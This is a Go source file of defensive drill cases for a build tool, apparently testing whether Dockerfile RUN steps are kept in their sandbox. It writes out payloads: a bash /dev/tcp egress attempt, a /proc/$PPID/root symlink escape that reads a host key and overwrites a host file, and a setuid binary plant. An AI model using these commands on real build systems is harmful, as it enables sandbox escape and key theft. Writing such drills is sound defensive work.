// SPDX-FileCopyrightText: The Hallmark Authors
// SPDX-License-Identifier: Apache-2.0

package drill

import (
	"context"
	"errors"
	"fmt"
	"io/fs"
	"os"
	"path/filepath"
	"strings"

	"github.com/hallmark-sc/hallmark"
	"github.com/hallmark-sc/hallmark/internal/app"
	"github.com/hallmark-sc/hallmark/internal/image"
	"github.com/hallmark-sc/hallmark/internal/pipeline"
	"github.com/hallmark-sc/hallmark/internal/sandbox"
)

// at08run is "indirect poisoned pipeline execution" by a RUN of a Dockerfile.
func at08run() []Case {
	const room = "the sandbox of a RUN: own files, processes and network only"
	return []Case{
		{
			Attack: "AT-08", Letter: "t", Does: "a RUN of a Dockerfile speaks to a server", Control: "the sandbox of a RUN, and an attempt to leave fails the build",
			Stops: hallmark.CodeBuildEgress, Residual: "what it writes into the image, which review and scans have to find", attack: runNetwork,
		},
		{
			Attack: "AT-08", Letter: "u", Does: "a RUN of a Dockerfile reads a key of the home through the host's processes", Control: room,
			Stops: hallmark.CodeSandboxHostUnseen, Residual: "a fault in the kernel", attack: runHost("read"),
		},
		{
			Attack: "AT-08", Letter: "v", Does: "a RUN of a Dockerfile writes through a link that leads out of its root", Control: room,
			Stops: hallmark.CodeSandboxHostUnseen, Residual: "a fault in the kernel", attack: runHost("write"),
		},
		{
			Attack: "AT-08", Letter: "w", Does: "a RUN of a Dockerfile leaves a program with a set-user-ID bit", Control: "what a RUN wrote is judged before it becomes a layer",
			Stops: hallmark.CodeImageRunRefused, Residual: "a set-user program of an approved base image", attack: runSetUser,
		},
	}
}

// runNetwork: the server listens on the host's loopback. What lies beyond is
// tried where that is not reached, and belongs to nobody.
func runNetwork(ctx context.Context, g *ground, c Control) (effect, error) {
	s, err := g.spy()
	if err != nil {
		return effect{}, err
	}
	l := s.listeners
	try := fmt.Sprintf(`for to in 127.0.0.1/%d 192.0.2.10/443; do bash -c "exec 3<>/dev/tcp/$to && echo drill-canary >&3" 2>/dev/null && break; done; echo ok > /tried`, l.port)
	r, err := g.project("run-network", map[string]string{"Dockerfile": onPrograms + "RUN " + try + "\n", pipeline.PipelineFile: imageOf(collectPrograms, "")})
	if err != nil {
		return effect{}, err
	}
	before, err := l.heard()
	if err != nil {
		return effect{}, err
	}
	f, err := g.run(ctx, r, g.withoutRoom(c))
	if err != nil {
		return effect{}, err
	}
	after, err := l.heard()
	if err != nil {
		return effect{}, err
	}
	if after > before {
		return effect{done: true, detail: "the server heard of it"}, nil
	}
	return effect{reason: hallmark.CodeBuildEgress, detail: "0 connections"}, f.denied(ctx, hallmark.CodeBuildEgress)
}

// runHost: /proc/PID/root of a process of the host is a way to all of its files,
// where a RUN sees that process: here the one that started it.
func runHost(what string) func(context.Context, *ground, Control) (effect, error) {
	return func(ctx context.Context, g *ground, c Control) (effect, error) {
		keyFile, victim := filepath.Join(g.home.Home, "keys", "artifact.pem"), g.path("victim", "file")
		key, err := os.ReadFile(keyFile)
		if err != nil {
			return effect{}, fmt.Errorf("reading the throwaway key: %w", err)
		}
		if err := errors.Join(os.MkdirAll(filepath.Dir(victim), 0o755), os.WriteFile(victim, []byte(clean), 0o644)); err != nil {
			return effect{}, err
		}
		try := fmt.Sprintf("mkdir /got; ln -s /proc/$PPID/root /way; cat '/way%s' > /got/key 2>/dev/null || echo none > /got/key; { echo poisoned > '/way%s'; } 2>/dev/null || :; echo ok > /got/tried", keyFile, victim)
		r, err := g.project("run-host", map[string]string{"Dockerfile": onPrograms + "RUN " + try + "\n", pipeline.PipelineFile: imageOf(collectPrograms, "")})
		if err != nil {
			return effect{}, err
		}
		type seen struct {
			f             finished
			read, written bool
		}
		s, err := keep(g, "run-host "+c.String(), func() (seen, error) {
			f, err := g.run(ctx, r, g.withoutRoom(c))
			if err != nil {
				return seen{}, err
			}
			if tried, err := f.holds(ctx, "got/tried", "ok\n"); err != nil || !tried {
				return seen{}, errors.Join(fmt.Errorf("the RUN did not try: %s", f.codes()), err)
			}
			read, err := f.holds(ctx, "got/key", string(key))
			if err != nil {
				return seen{}, err
			}
			now, err := os.ReadFile(victim)
			return seen{f, read, string(now) == poison}, err
		})
		if err != nil {
			return effect{}, err
		}
		if what == "read" && s.read {
			return effect{done: true, detail: "the key of the home is in the image"}, nil
		}
		if what == "write" && s.written {
			return effect{done: true, detail: "a file of the host was written to"}, nil
		}
		if nothing, err := s.f.holds(ctx, "got/key", none+"\n"); err != nil || !nothing {
			return effect{}, errors.Join(errors.New("the RUN read something else"), err)
		}
		return effect{reason: hallmark.CodeSandboxHostUnseen, detail: "there is no process of the host, and no way through one"}, errors.Join(s.f.guaranteed("namespaces"), s.f.guaranteed(sandbox.GuaranteeRootOverlay))
	}
}

// runSetUser: without the control the bit of a file is taken over as any other
// part of its mode.
func runSetUser(ctx context.Context, g *ground, c Control) (effect, error) {
	r, err := g.project("run-set-user", map[string]string{"Dockerfile": onPrograms + "RUN cat /usr/bin/cat > /usr/bin/own && chmod 4755 /usr/bin/own\n", pipeline.PipelineFile: imageOf(collectPrograms, "")})
	if err != nil {
		return effect{}, err
	}
	return g.imageCase(ctx, r, hallmark.CodeImageRunRefused, compose(func(p *app.BuildParts) {
		if c == Off {
			real := p.Images.Written
			p.Images.Written = func(ctx context.Context, t *image.Tree, w image.Written) ([]image.Change, error) {
				return withBits(ctx, t, w, real)
			}
		}
	}), func(ctx context.Context, f finished) (bool, error) {
		t, err := f.tree(ctx)
		if err != nil || t == nil {
			return false, err
		}
		e, ok := t.Find("usr/bin/own")
		return ok && e.Special&setUser != 0, nil
	})
}

const setUser = 0o4000

// written reads what a RUN wrote.
type written = func(context.Context, *image.Tree, image.Written) ([]image.Change, error)

// withBits reads what a RUN wrote as real does, which sees no set-user-ID bits and
// gets them back afterwards.
func withBits(ctx context.Context, t *image.Tree, w image.Written, real written) ([]image.Change, error) {
	bits := map[string]bool{}
	err := filepath.WalkDir(w.Dir, func(p string, d fs.DirEntry, err error) error {
		if err != nil || !d.Type().IsRegular() {
			return err
		}
		st, err := d.Info()
		if err != nil || st.Mode()&fs.ModeSetuid == 0 {
			return err
		}
		rel, err := filepath.Rel(w.Dir, p)
		bits[rel] = true
		return errors.Join(err, os.Chmod(p, st.Mode().Perm()))
	})
	if err != nil {
		return nil, err
	}
	out, err := real(ctx, t, w)
	for i := range out {
		if bits[out[i].Path] {
			out[i].Special |= setUser
		}
	}
	return out, err
}

// withRemovals reads what a RUN wrote as real does, which does not see the names
// that stand for removals, and adds them as the files that they are.
func withRemovals(ctx context.Context, t *image.Tree, w image.Written, real written) ([]image.Change, error) {
	const mark, hidden = ".wh.", "drill-removal-"
	names, err := filepath.Glob(filepath.Join(w.Dir, mark+"*"))
	if err != nil {
		return nil, err
	}
	for _, n := range names {
		if err := os.Rename(n, filepath.Join(w.Dir, hidden+strings.TrimPrefix(filepath.Base(n), mark))); err != nil {
			return nil, err
		}
	}
	out, err := real(ctx, t, w)
	for i := range out {
		if name, ok := strings.CutPrefix(out[i].Path, hidden); ok {
			// An empty file of that name is how a layer says that another is gone.
			out[i] = image.Change{Entry: image.Entry{Path: name}, Removed: true}
		}
	}
	return out, err
}
